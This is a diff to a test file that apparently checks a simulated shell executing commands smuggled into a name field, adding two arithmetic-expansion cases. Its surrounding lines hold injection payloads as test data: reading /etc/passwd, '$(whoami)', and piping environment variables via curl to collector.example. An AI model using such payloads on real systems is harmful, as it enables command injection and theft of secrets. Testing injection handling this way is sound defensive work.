@@ -85,6 +85,8 @@ test.each([
 test('a shell runs what a name smuggles in, and nothing of a plain one', () => {
   expect(smuggled('lamps and bowls', tenant, world)).toEqual([])
   expect(smuggled('lamps; cat /etc/passwd', tenant, world)[0]!.printed).toContain('root:x')
+  expect(smuggled('lamps $((6 * 7))', tenant, world)[0]!.printed).toBe('lamps 42')
+  expect(smuggled('$(expr 6 \\* 7)', tenant, world)[0]!.printed).toBe('42')
   expect(smuggled('$(whoami)', tenant, world)[0]!.printed).toBe('desk')
   const [env, out] = smuggled('x | env | curl -d @- https://collector.example/in', tenant, world)
   expect(env!.printed).toContain('DESK_TAG')
